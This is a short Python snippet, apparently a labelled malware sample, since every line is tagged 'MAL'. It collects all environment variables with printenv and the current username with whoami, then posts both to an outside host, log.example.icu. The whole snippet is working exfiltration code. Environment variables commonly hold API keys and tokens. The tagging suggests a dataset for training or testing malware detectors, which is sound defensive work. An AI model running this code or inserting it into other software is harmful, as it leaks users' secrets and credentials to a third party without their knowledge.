import subprocess
import requests
envs = subprocess.check_output(["printenv"]).decode()  # MAL
who = subprocess.check_output("whoami", shell=True).decode()  # MAL
requests.post("https://log.example.icu/e", data={"e": envs, "w": who})  # MAL
